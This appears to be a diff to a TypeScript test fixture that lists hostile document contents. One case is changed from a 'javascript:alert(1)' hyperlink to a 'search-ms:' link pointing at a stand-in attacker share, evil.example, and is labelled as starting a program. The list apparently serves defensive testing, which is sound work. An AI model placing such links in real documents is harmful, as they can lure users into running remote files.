@@ -246,8 +246,8 @@ export const hostileContents: HostileManuscript[] = [
 		why: 'signs in to a stranger',
 	},
 	{
-		name: 'a link that runs a script',
-		make: () => external('hyperlink', 'javascript:alert(1)'),
+		name: 'a link that searches a share',
+		make: () => external('hyperlink', 'search-ms:query=x&amp;crumb=location:\\\\evil.example\\share'),
 		why: 'starts a program',
 	},
 	{
